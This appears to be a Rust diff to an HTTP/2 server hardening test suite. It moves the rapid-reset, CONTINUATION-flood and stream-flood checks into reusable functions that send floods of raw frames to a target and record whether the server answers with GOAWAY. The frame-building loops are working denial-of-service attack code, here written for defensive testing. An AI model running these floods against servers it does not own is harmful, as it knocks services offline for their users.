@@ -8,7 +8,7 @@ use std::time::Duration;
 
 use super::{Config, judge::schedule_outcome};
 use crate::{
-    client::{self, Ask, Fetched, frames::*},
+    client::{self, Ask, Fetched, Target, frames::*},
     outcome::{Level, Outcome},
 };
 
@@ -36,7 +36,7 @@ fn h2_only(cfg: &Config) -> Option<Outcome> {
 
 /// What the server said to an attack: its GOAWAY (code and debug data), a close, or nothing
 /// within the bound, and how much of the attack went out first.
-enum Answer {
+pub(crate) enum Answer {
     Goaway(u32, String),
     Closed,
     Nothing,
@@ -122,25 +122,8 @@ pub async fn h2_rapid_reset_goaway(cfg: &Config) -> Outcome {
     if let Some(outcome) = h2_only(cfg) {
         return outcome;
     }
-    let attack = async {
-        let mut raw = Raw::open(&cfg.target, &[]).await?;
-        let block = raw.request_block(&cfg.stream_path());
-        let mut sent = 0;
-        while sent < RESET_PAIRS {
-            for i in sent..sent + 1_000 {
-                raw.queue(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, &block);
-                raw.queue(RST_STREAM, 0, 2 * i + 1, &CANCEL.to_be_bytes());
-            }
-            if raw.flush().await.is_err() {
-                return Ok((Answer::Closed, sent));
-            }
-            sent += 1_000;
-            if let Some(answer) = answered(&mut raw).await {
-                return Ok((answer, sent));
-            }
-        }
-        Ok((Answer::Nothing, sent))
-    };
+    let path = cfg.stream_path();
+    let attack = rapid_reset(&cfg.target, &path, RESET_PAIRS);
     beside_victim(cfg, attack, "(HEADERS, RST_STREAM) pairs", RESET_PAIRS).await
 }
 
@@ -150,51 +133,82 @@ pub async fn h2_continuation_flood_goaway(cfg: &Config) -> Outcome {
     if let Some(outcome) = h2_only(cfg) {
         return outcome;
     }
-    let attack = async {
-        let mut raw = Raw::open(&cfg.target, &[]).await?;
-        // Nothing may come between the frames of a header block, the SETTINGS ACK included.
-        raw.server_settings(Duration::from_secs(5)).await?;
-        let block = raw.request_block(&cfg.stream_path());
-        raw.queue(HEADERS, 0, 1, &block);
-        // `x-flood: aaa…` (1000 bytes), a literal without indexing with a new name.
-        let mut field = b"\x00\x07x-flood\x7f\xe9\x06".to_vec();
-        field.extend(std::iter::repeat_n(b'a', 1000));
-        let mut sent = 0;
-        while sent < CONTINUATIONS {
-            for _ in 0..100 {
-                raw.queue(CONTINUATION, 0, 1, &field);
-            }
-            if raw.flush().await.is_err() {
-                return Ok((Answer::Closed, sent));
-            }
-            sent += 100;
-            if let Some(answer) = answered(&mut raw).await {
-                return Ok((answer, sent));
-            }
-        }
-        Ok((Answer::Nothing, sent))
-    };
+    let path = cfg.stream_path();
+    let attack = continuation_flood(&cfg.target, &path, CONTINUATIONS);
     beside_victim(cfg, attack, "CONTINUATION frames", CONTINUATIONS).await
+}
+
+/// Opens and at once resets streams of `path`, 1 000 pairs at a time, until the server says
+/// GOAWAY or closes, at most `pairs`: what it answered, after how many pairs.
+pub(crate) async fn rapid_reset(
+    target: &Target, path: &str, pairs: u32,
+) -> Result<(Answer, u32), String> {
+    let mut raw = Raw::open(target, &[]).await?;
+    let block = raw.request_block(path);
+    let mut sent = 0;
+    while sent < pairs {
+        for i in sent..sent + 1_000 {
+            raw.queue(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, &block);
+            raw.queue(RST_STREAM, 0, 2 * i + 1, &CANCEL.to_be_bytes());
+        }
+        if raw.flush().await.is_err() {
+            return Ok((Answer::Closed, sent));
+        }
+        sent += 1_000;
+        if let Some(answer) = answered(&mut raw).await {
+            return Ok((answer, sent));
+        }
+    }
+    Ok((Answer::Nothing, sent))
+}
+
+/// A HEADERS frame for `path` without END_HEADERS, then CONTINUATION frames of 1 KiB of header
+/// each, 100 at a time, at most `frames`: what the server answered, after how many frames.
+pub(crate) async fn continuation_flood(
+    target: &Target, path: &str, frames: u32,
+) -> Result<(Answer, u32), String> {
+    let mut raw = Raw::open(target, &[]).await?;
+    // Nothing may come between the frames of a header block, the SETTINGS ACK included.
+    raw.server_settings(Duration::from_secs(5)).await?;
+    let block = raw.request_block(path);
+    raw.queue(HEADERS, 0, 1, &block);
+    // `x-flood: aaa…` (1000 bytes), a literal without indexing with a new name.
+    let mut field = b"\x00\x07x-flood\x7f\xe9\x06".to_vec();
+    field.extend(std::iter::repeat_n(b'a', 1000));
+    let mut sent = 0;
+    while sent < frames {
+        for _ in 0..100 {
+            raw.queue(CONTINUATION, 0, 1, &field);
+        }
+        if raw.flush().await.is_err() {
+            return Ok((Answer::Closed, sent));
+        }
+        sent += 100;
+        if let Some(answer) = answered(&mut raw).await {
+            return Ok((answer, sent));
+        }
+    }
+    Ok((Answer::Nothing, sent))
 }
 
 /// What the stream flood saw: the limit the server advertised, the streams it answered and
 /// refused, how the connection ended, and the server's memory growth (when its pid is known).
-struct Flooded {
-    limit: Option<u32>,
-    heads: u32,
-    refused: u32,
-    ended: Option<Answer>,
-    grown_kib: Option<u64>,
+pub(crate) struct Flooded {
+    pub(crate) limit: Option<u32>,
+    pub(crate) heads: u32,
+    pub(crate) refused: u32,
+    pub(crate) ended: Option<Answer>,
+    pub(crate) grown_kib: Option<u64>,
 }
 
-/// With a zero flow-control window (so no body can be sent), opens [`FLOOD_STREAMS`] streams of
-/// a long stream on one connection, 100 at a time, reading what comes back between batches.
-async fn flood(cfg: &Config) -> Result<Flooded, String> {
+/// With a zero flow-control window (so no body can be sent), opens `streams` streams of a long
+/// stream on one connection, 100 at a time, reading what comes back between batches.
+pub(crate) async fn flood(cfg: &Config, streams: u32) -> Result<Flooded, String> {
     let before = cfg.local.pid.and_then(|pid| crate::servers::rss_kib(pid).ok());
     let mut raw = Raw::open(&cfg.target, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
     let block = raw.request_block("/stream?count=1000000&interval_ms=0");
     let mut seen = Flooded { limit: None, heads: 0, refused: 0, ended: None, grown_kib: None };
-    'batches: for batch in 0..FLOOD_STREAMS / 100 {
+    'batches: for batch in 0..streams.div_ceil(100) {
         for i in 0..100 {
             raw.queue(HEADERS, END_HEADERS | END_STREAM, 2 * (batch * 100 + i) + 1, &block);
         }
@@ -239,7 +253,7 @@ pub async fn h2_stream_flood_bounded(cfg: &Config) -> Outcome {
     if let Some(outcome) = h2_only(cfg) {
         return outcome;
     }
-    let Flooded { limit, heads, refused, ended, grown_kib } = match flood(cfg).await {
+    let Flooded { limit, heads, refused, ended, grown_kib } = match flood(cfg, FLOOD_STREAMS).await {
         Ok(flooded) => flooded,
         Err(error) => return Outcome::fail(format!("the flood could not run: {error}")),
     };
